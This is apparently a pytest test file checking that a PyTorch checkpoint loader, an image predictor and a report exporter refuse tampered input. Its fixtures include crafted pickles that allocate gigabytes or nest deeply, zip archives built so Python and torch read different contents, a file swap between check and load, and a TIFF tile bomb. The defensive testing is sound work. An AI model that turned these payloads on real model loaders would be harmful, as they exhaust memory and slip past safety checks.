        _pickle(b"}K\x00" + b"\x85" * 200 + b"K\x01s."),
        "model.pt was refused: its pickle nests objects more than 100 deep",
    ),
    # Python's zipfile checked the pickle of one archive, torch loaded the other's: 1 GB for a 2 KB file
    "model.pt of two archives, torch's calling bytearray(2**30)": (
        _two_archives(b"cbuiltins\nbytearray\nJ\x00\x00\x00\x40\x85R."),
        "model.pt was refused: its directory is not where its end record says (a file of two archives",
    ),
    "model.pt deflated": (_deflated(), "model.pt was refused: 'model/data.pkl' is compressed; torch.save stores"),
    "model.pt whose zip64 locator points at another copy's record": (
        _two_zip64_records(BYTEARRAY, locator_elsewhere=True),
        "model.pt was refused: its zip64 locator does not point at the record before it",
    ),
    "model.pt whose zip64 locator points at no record": (
        _two_zip64_records(BYTEARRAY, locator_elsewhere=False),
        "model.pt was refused: its zip64 locator does not point at the record before it",
    ),
    "model.pt after a legacy torch file": (
        _legacy_before(BYTEARRAY),
        "model.pt was refused: it does not start as a zip archive (torch would read it in its legacy format)",
    ),
    # names torch's weights-only unpickler takes that compute from what they are given: Counter iterates a tensor (a
    # stride-0 view of 2**31 rows from one stored number), a rebuilder copies one to another dtype (gigabytes)
    "model.pt calling collections.Counter": (
        _pickle(b"ccollections\nCounter\n)R."),
        "model.pt was refused: it holds Python objects besides tensors, and loading them would run code "
        "('collections' is called: collections.Counter)",
    ),
    "model.pt calling torch's copy to another dtype": (
        _pickle(b"ctorch._utils\n_rebuild_device_tensor_from_cpu_tensor\n)R."),
        "would run code ('torch._utils' is called: torch._utils._rebuild_device_tensor_from_cpu_tensor)",
    ),
    "model.pt of a nested tensor": (  # (whose shape raised a RuntimeError in the shape check)
        _pickle(b"ctorch._utils\n_rebuild_nested_tensor\n)R."),
        "would run code ('torch._utils' is called: torch._utils._rebuild_nested_tensor)",
    ),
    "model.pt of an OrderedDict made from an iterable": (
        _pickle(b"ccollections\nOrderedDict\n]K\x01K\x02\x86a\x85R."),
        "model.pt was refused: its pickle is not what torch.save writes",
    ),
    # lists filled after they were put into another: each seen 2 deep, 5,000 deep in all
    "model.pt of lists filled from the outside in": (
        _pickle(b"]q\x01q\x00" + b"h\x00]q\x00a0" * 5_000 + b"h\x01."),
        "model.pt was refused: its pickle is not what torch.save writes",
    ),
    # 64 objects of about 1 KB, a tuple of two of the one before: hashing the last as a key takes 2**64 steps
    "model.pt keyed by a tuple of tuples 2**64 wide": (
        _pickle(TUPLE_CHAIN),
        "model.pt was refused: its pickle makes, or reaches, more than 20,000 objects",
    ),
}


@pytest.mark.timeout(120)
def test_a_record_field_of_a_megabyte_of_uri_like_words_is_refused_at_once(folder, capsys):
    """Hiding secrets takes time growing with the square of a word's length: a refusal that hid them in a whole
    field before cutting it to the line (a planted 1 MB data_dir) ran for hours."""
    for field, value in (("data_dir", "\x00" + "a:/" * 150_000), ("mlflow", "http://[" + "a:/" * 150_000)):
        folder.settings(lambda s: {**s, "data_dir": None, field: value})  # noqa: B023 - called at once
        code, err = _run(["export", str(folder.exp)], capsys)
        assert code == 2 and err.count("\n") == 1 and f"{field}: '" in err and len(err) < 1_000, err[:500]


def test_a_secret_in_a_trials_error_is_hidden_in_the_tables_the_report_and_the_page(folder, capsys):
    """A failed trial's last error line went into results.csv, results.parquet, report.md and the study page as
    written: an MLflow or bucket URI in it showed its password there (the page shown during the sweep hid it)."""
    _, trial = folder.trial("errored")
    secret = "Sup3rS3cretPassw0rd" + "x" * 300  # past the table's cut of the line: hidden before the cut
    with (trial / "error.txt").open("a") as f:
        f.write(f"mlflow.exceptions.MlflowException: API request to http://alice:{secret}@mlflow.example.com:5000 "
                "failed\n")  # fmt: skip
    for command in ("export", "report"):
        code, err = _run([command, str(folder.exp)], capsys)
        assert code == 0 and "Sup3r" not in err, err
    table = pd.read_parquet(folder.exp / "results.parquet")
    assert table["error"].str.contains("http://alice:***@", regex=False).any()
    for name in ("results.parquet", "results.csv", "report.md", "report.html", "report-data.js"):
        assert b"Sup3r" not in (folder.exp / name).read_bytes(), name


@pytest.mark.timeout(30)
@pytest.mark.parametrize("case", list(LOAD_CASES), ids=list(LOAD_CASES))
def test_load_model_refuses_a_checkpoint_that_lies(case, ckpt):
    tamper, needle = LOAD_CASES[case]
    tamper(ckpt)
    start = time.monotonic()
    with pytest.raises(ValueError) as refused:  # checkpoint.CheckpointError
        checkpoint.load_model(ckpt)
    assert time.monotonic() - start < 2  # nothing of a declared network is allocated before it is known to fit
    message = str(refused.value)
    assert type(refused.value).__name__ == "CheckpointError" and "\n" not in message, message
    assert str(ckpt) in message and needle in message, message


@pytest.mark.parametrize("name,value", [("_metadata", 5), ("_metadata", {"": "x"}), ("values", 5),
                                        ("keys", collections.OrderedDict), ("get", 5)])  # fmt: skip
def test_a_checkpoint_whose_state_dict_has_attributes_set_loads_its_weights_all_the_same(ckpt, name, value):
    """A pickle may set attributes on the OrderedDict it builds: torch.save records module versions in
    _metadata, which torch's loaders took as they found it, and others shadow the methods the checks call. Each
    was a traceback from deep inside."""
    state = torch.load(ckpt / "model.pt", weights_only=True)
    setattr(state, name, value)
    torch.save(state, ckpt / "model.pt")
    model = checkpoint.load_model(ckpt)
    assert all(torch.equal(v, dict.__getitem__(state, k)) for k, v in model.state_dict().items())


def test_what_torch_loads_is_what_was_checked_whoever_rewrites_the_file_between(ckpt, monkeypatch):
    """The check and torch.load each read the file anew: another user who could write it rewrote it in between,
    and torch loaded a pickle the check never saw (bytearray(2**30) from 30 bytes)."""
    check = checkpoint._check_archive

    def then_rewritten(*args):
        check(*args)
        _pickle(BYTEARRAY)(ckpt)  # in place: the same file, new bytes

    monkeypatch.setattr(checkpoint, "_check_archive", then_rewritten)
    assert isinstance(checkpoint.load_model(ckpt), AlexNet)


@pytest.mark.parametrize("raw", [b"cbuiltins\nbytearray\nJ\x00\x00\x00\x40\x85R.", b"}K\x00" + b"\x85" * 300_000 + b"K\x01s."],
                         ids=["bytearray(2**30)", "a key 300,000 deep"])  # fmt: skip
def test_a_resume_state_whose_pickle_torch_should_not_see_is_passed_over_unread(tmp_path, raw):
    """A trial read its resume states with torch's weights-only unpickler alone: 1 GB allocated, or a crash of the
    trial's process that no except caught, at every try."""
    for hidden in (False, True):  # (under another case of its name, torch's reader finds it all the same)
        for name in ("trainer.pt", "model.pt"):
            torch.save({"a": torch.zeros(1)}, tmp_path / name)
        assert checkpoint.read_resume(tmp_path, checkpoint.network_bytes(MODEL_ARGS)) is not None
        _pickle(raw, "trainer.pt", hidden)(tmp_path)
        assert (
            checkpoint.read_resume(tmp_path, checkpoint.network_bytes(MODEL_ARGS)) is None
        )  # unreadable: train.py tries the one before, or starts afresh


def test_the_two_archives_in_one_file_are_read_apart_by_python_and_by_torch(ckpt):
    """The case above is what it says: what torch loads is not what Python's zipfile reads."""
    import zipfile

    nested = b"]" * 150 + b"a" * 149 + b"."  # 150 lists deep: torch takes it, the check would not
    _two_archives(nested)(ckpt)
    loaded = torch.load(ckpt / "model.pt", weights_only=True)
    assert isinstance(loaded, list) and isinstance(loaded[0][0][0], list)
    with zipfile.ZipFile(ckpt / "model.pt") as archive:
        assert checkpoint.pickle_problem(archive.read("model/data.pkl")) is None  # what the check read was harmless
        assert checkpoint.archive_problem(archive).startswith("its directory is not where its end record says")


@pytest.mark.parametrize("tamper", [_two_archives(BYTEARRAY, "trainer.pt"), _deflated("trainer.pt"),
                                    _two_zip64_records(BYTEARRAY, True, "trainer.pt"),
                                    _two_zip64_records(BYTEARRAY, False, "trainer.pt"), _legacy_before(BYTEARRAY, "trainer.pt"),
                                    _pickle(TUPLE_CHAIN, "trainer.pt")],
                         ids=["two archives", "deflated", "zip64 locator elsewhere", "zip64 locator at none",
                              "a legacy file first", "a tuple 2**64 wide"])  # fmt: skip
def test_a_resume_state_torch_would_read_otherwise_than_the_check_is_passed_over(tmp_path, tamper):
    for name in ("trainer.pt", "model.pt"):
        torch.save({"a": torch.zeros(1)}, tmp_path / name)
    assert checkpoint.read_resume(tmp_path, checkpoint.network_bytes(MODEL_ARGS)) is not None
    tamper(tmp_path)
    assert checkpoint.read_resume(tmp_path, checkpoint.network_bytes(MODEL_ARGS)) is None


def test_an_archive_of_two_members_named_alike_but_for_case_is_refused():
    """torch finds data.pkl whatever its case: of model/data.pkl and model/DATA.PKL, which one it reads is its own."""
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("model/data.pkl", b"\x80\x02}.")
        archive.writestr("model/DATA.PKL", b"\x80\x02cbuiltins\nbytearray\nJ\x00\x00\x00\x40\x85R.")
    with zipfile.ZipFile(buf) as archive:
        assert checkpoint.archive_problem(archive) == "it holds two files of one name but for the case of its letters"


@pytest.mark.parametrize("name", ["model.pt", "model.json"])
def test_a_checkpoint_file_you_cannot_read_is_said_to_be_so(ckpt, name):
    """A user's own file at mode 0000 was 'not what torch.save writes'."""
    (ckpt / name).chmod(0)
    code = f"from tune_alexnet import checkpoint\ntry: checkpoint.load_model({str(ckpt)!r})\nexcept ValueError as e: print(e)"
    done = subprocess.run([*NO_OVERRIDE, sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert done.stdout.strip().endswith(f"{ckpt / name} cannot be read (Permission denied: its mode, or its owner, "
                                        "keeps you out)"), done.stdout + done.stderr[-2000:]  # fmt: skip


@pytest.mark.parametrize("device", ["cuda:7", "meta", "mps", "cpu:5", "bogus"])
def test_load_model_names_a_device_this_machine_lacks_not_the_checkpoint(ckpt, device):
    with pytest.raises(ValueError) as refused:
        checkpoint.load_model(ckpt, device=device)
    assert type(refused.value) is ValueError and f"device '{device}'" in str(refused.value)
    assert "model.pt" not in str(refused.value) and "allowed: 'cpu'" in str(refused.value)


def test_load_model_takes_a_checkpoint_folder_through_a_link_of_the_users_own(ckpt, tmp_path):
    """The folder named is the user's choice (a link to it is fine); only links below it are refused."""
    (tmp_path / "link").symlink_to(ckpt)
    model = checkpoint.load_model(tmp_path / "link")
    assert model.classes == CLASSES and model(torch.zeros(2, 3, 32, 32)).shape == (2, 10)
    for path, device in ((os.fsencode(tmp_path / "link"), "cpu:0"), (ckpt, torch.device("cpu", 0))):
        assert checkpoint.load_model(path, device=device)(torch.zeros(1, 3, 32, 32)).shape == (1, 10)


@pytest.mark.parametrize("classes", [[], ...], ids=["empty", "absent"])
def test_a_checkpoint_without_class_names_names_each_output_by_its_index(classes, ckpt):
    _model_json(classes=classes)(ckpt)
    model = checkpoint.load_model(ckpt)
    assert model.classes == tuple(str(i) for i in range(10))
    assert all(model.classes[i] for i in checkpoint.predict(model, IMAGES))  # the README's lookup


# --- predict: images of every wrong kind -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def model():
    torch.manual_seed(0)
    return AlexNet(**MODEL_ARGS).eval()


IMAGES = np.random.default_rng(0).integers(0, 256, (40, 32, 32, 3), dtype=np.uint8)


def test_predict_takes_uint8_floats_in_0_1_integers_and_pil_images_alike(model):
    from PIL import Image

    labels = checkpoint.predict(model, IMAGES)
    assert labels.shape == (40,) and labels.dtype == np.int64
    assert (checkpoint.predict(model, IMAGES.astype(np.float32) / np.float32(255)) == labels).all()
    assert (checkpoint.predict(model, IMAGES.astype(np.int64)) == labels).all()
    assert (checkpoint.predict(model, [Image.fromarray(im) for im in IMAGES[:8]]) == labels[:8]).all()
    assert checkpoint.predict(model, IMAGES[:0]).shape == (0,)


def test_predict_proba_gives_each_class_a_probability_whose_largest_is_predicts_answer(model):
    probs = checkpoint.predict_proba(model, IMAGES, batch_size=16)
    assert probs.shape == (40, 10) and probs.dtype == np.float32 and (probs >= 0).all()
    assert np.allclose(probs.sum(1), 1, atol=1e-5)
    assert (probs.argmax(1) == checkpoint.predict(model, IMAGES)).all()
    assert checkpoint.predict_proba(model, IMAGES[:0]).shape == (0, 10)
    with pytest.raises(ValueError, match="allowed"):
        checkpoint.predict_proba(model, IMAGES[0])  # one image without the batch axis


def _pil(size, mode="RGB"):
    from PIL import Image

    return Image.new(mode, size)


PREDICT_CASES = {
    "one image without the batch axis": (lambda: IMAGES[0], "shape (32, 32, 3)"),
    "grayscale": (lambda: IMAGES[..., 0], "shape (40, 32, 32)"),
    "channels first": (lambda: IMAGES.transpose(0, 3, 1, 2), "shape (40, 3, 32, 32)"),
    "64x64": (lambda: np.zeros((2, 64, 64, 3), np.uint8), "shape (2, 64, 64, 3)"),
    "floats 0..255": (lambda: IMAGES.astype(np.float32), "floats in [0, 1]"),
    "floats with NaN": (lambda: np.full((2, 32, 32, 3), np.nan), "floats in [0, 1]"),
    "integers over 255": (lambda: IMAGES.astype(np.int64) + 256, "integers 0..255"),
    "booleans": (lambda: IMAGES > 128, "images of bool"),
    "one PIL image": (lambda: _pil((32, 32)), "one PIL image"),
    "a PIL image of another size": (lambda: [_pil((64, 48))], "image 0 is 64x48; allowed: 32x32"),
    "a torch tensor": (lambda: torch.zeros(2, 3, 32, 32), "a Tensor"),
    "a 16-bit PIL image": (lambda: [_pil((32, 32), "I;16")], "image 0 is of mode I;16, which PIL does not turn"),
    "a float PIL image": (lambda: [_pil((32, 32), "F")], "image 0 is of mode F, which PIL does not turn into RGB"),
    "a LAB PIL image": (lambda: [_pil((32, 32), "LAB")], "image 0 is of mode LAB, which PIL does not turn into RGB"),
    "a truncated PNG": (lambda: [_truncated_png()], "image 0 cannot be read (image file is truncated"),
    "a PNG with a broken chunk": (lambda: [_broken_png()], "image 0 cannot be read (broken PNG file (chunk"),
    # 783 KB of TIFF declaring one tile of 16384x16384 pixels: libtiff allocated 800 MB for it
    "a TIFF of 16384-pixel tiles": (lambda: [_tiff_of_tiles(16384)], "image 0 declares tiles of 16384x16384 pixels"),
    "a TIFF whose tile width is text": (lambda: [_tiff_of_tiles(32, width=b"abc\0")],
                                        "image 0 declares tiles of 'abc'x32 pixels, which are no numbers"),
}  # fmt: skip


def _tiff_of_tiles(tile: int, width: bytes | None = None):
    """`width`: the TileWidth tag's value as ASCII text, where a number is due (a comparison raised TypeError)."""
    import struct

    from PIL import Image
    from test_data import _tiled_tiff

    raw = _tiled_tiff(tile)
    if width is not None:
        number = struct.pack("<HHII", 322, 4, 1, tile)
        assert raw.count(number) == 1
        raw = raw.replace(number, struct.pack("<HHI4s", 322, 2, len(width), width))
    return Image.open(io.BytesIO(raw))


def _truncated_png():
    from PIL import Image

    buffer = io.BytesIO()
    Image.fromarray(np.random.default_rng(0).integers(0, 256, (32, 32, 3), dtype=np.uint8)).save(buffer, "PNG")
    return Image.open(io.BytesIO(buffer.getvalue()[:-200]))


def _broken_png():
    """Half of the pixel data, then a chunk of no known type: PIL raises SyntaxError."""
    import struct
    import zlib

    from PIL import Image

    buffer = io.BytesIO()
    Image.fromarray(np.random.default_rng(0).integers(0, 256, (32, 32, 3), dtype=np.uint8)).save(buffer, "PNG")
    raw = buffer.getvalue()
    at = raw.index(b"IDAT") - 4
    half = raw[at + 8 : at + 8 + struct.unpack(">I", raw[at : at + 4])[0] // 2]
    chunk = struct.pack(">I", len(half)) + b"IDAT" + half + struct.pack(">I", zlib.crc32(b"IDAT" + half))
    return Image.open(io.BytesIO(raw[:at] + chunk + b"\x00\x00\x00\x04\x02\xc4dRxxxx"))


@pytest.mark.parametrize("case", list(PREDICT_CASES), ids=list(PREDICT_CASES))
def test_predict_refuses_images_it_cannot_take_in_one_line(case, model):
    make, needle = PREDICT_CASES[case]
    with pytest.raises(ValueError) as refused:
        checkpoint.predict(model, make())
    assert needle in str(refused.value) and "allowed" in str(refused.value) and "\n" not in str(refused.value)


@pytest.mark.parametrize("batch_size", [0, -1, 2.5, True])
def test_predict_refuses_a_batch_size_below_one_in_one_line(batch_size, model):
    with pytest.raises(ValueError, match=f"batch_size {batch_size!r}; allowed: a whole number >= 1"):
        checkpoint.predict(model, IMAGES, batch_size=batch_size)
    by_numpy = checkpoint.predict(model, IMAGES, batch_size=np.int64(3))  # as read from the table's column
    assert (by_numpy == checkpoint.predict(model, IMAGES)).all()


# --- the bounded reader on a filesystem that is not local (a bucket's path) -----------------------------------


def test_a_bucket_path_is_checked_by_name_and_size_before_reading(tmp_path):
    import pyarrow.fs

    from tune_alexnet.storage import RefusedFile, read_bytes

    (tmp_path / "exp").mkdir()
    (tmp_path / "exp" / "a.json").write_text("{}")
    (tmp_path / "secret").write_text("outside")
    bucket = pyarrow.fs.SubTreeFileSystem(str(tmp_path), pyarrow.fs.LocalFileSystem())  # not local: names only
    assert read_bytes(bucket, "exp", "a.json", 10) == b"{}"
    for relative, needle in (("../secret", "not a path inside"), ("/secret", "not a path inside"), ("", "not a path")):
        with pytest.raises(RefusedFile, match=needle):
            read_bytes(bucket, "exp", relative, 10)
    with pytest.raises(RefusedFile, match="allowed: at most 1 bytes"):
        read_bytes(bucket, "exp", "a.json", 1)
    with pytest.raises(FileNotFoundError):
        read_bytes(bucket, "exp", "b.json", 10)


@pytest.mark.slow  # 64 MB written and read
@pytest.mark.timeout(60, func_only=True)
def test_a_result_json_of_lines_split_by_carriage_returns_is_read_in_one_pass(folder, capsys):
    """The line limit counted newlines; the lines read were split at carriage returns too (and 7 more): 64 MB of
    '{}\\r' took minutes and gigabytes."""
    trial_id, trial = folder.trial("terminated")
    result = trial / "result.json"
    result.write_bytes(result.read_bytes() + b"{}\r" * ((64 * 2**20 - result.stat().st_size - 10) // 3))
    code, err = _run(["export", str(folder.exp)], capsys)
    assert code == 0 and "Traceback" not in err, err
    table = pd.read_parquet(folder.exp / "results.parquet").set_index("trial_id")
    assert table.loc[trial_id, "status"] == "terminated"  # its lines, the whole epochs it wrote, read as before


def test_an_experiment_state_of_more_trials_than_a_sweep_makes_is_passed_over(folder, capsys):
    """Each entry became a row, at ~100 us and a KB apiece: 1.6 million empty ones (13 MB, within the file's
    bound) took minutes and gigabytes."""
    data = json.loads(folder.state().read_text())
    data["trial_data"] += [["{}"]] * 20_001
    folder.state().write_text(json.dumps(data))
    code, err = _run(["export", str(folder.exp)], capsys)
    assert code == 0 and "trials, more than 20,000); the table is rebuilt from the" in err, err
    assert len(pd.read_parquet(folder.exp / "results.parquet")) == len(folder.before)


@pytest.mark.timeout(30)
def test_a_resume_state_larger_than_its_network_needs_or_not_a_file_is_passed_over_unread(tmp_path):
    """trainer.pt was read whole, whatever its size, before any check; a FIFO blocked the trial for ever."""
    torch.save({"a": torch.zeros(5 * 2**20)}, tmp_path / "trainer.pt")  # 20 MB
    torch.save({"a": torch.zeros(1)}, tmp_path / "model.pt")
    assert checkpoint.read_resume(tmp_path, 2**22) is not None  # 4 MB of weights: room for their optimizer's
    assert checkpoint.read_resume(tmp_path, 1000) is None
    (tmp_path / "trainer.pt").unlink()
    os.mkfifo(tmp_path / "trainer.pt")
    assert checkpoint.read_resume(tmp_path, 2**22) is None


def test_an_archive_whose_end_record_understates_its_files_is_refused_from_its_directorys_size(tmp_path):
    """zipfile reads a directory by its size, whatever count the end record gives: one saying 1 file over 13,000
    (a few million, in a resume state that may be hundreds of MB) was parsed whole before any check."""
    _zip_of_empty_files(tmp_path / "trainer.pt", 13_000, say=1, name_width=244)
    with open(tmp_path / "trainer.pt", "rb") as f:
        assert checkpoint.members_problem(f).startswith("its directory is 3,9")
    torch.save({"a": torch.zeros(1)}, tmp_path / "model.pt")
    assert checkpoint.read_resume(tmp_path, 2**22) is None
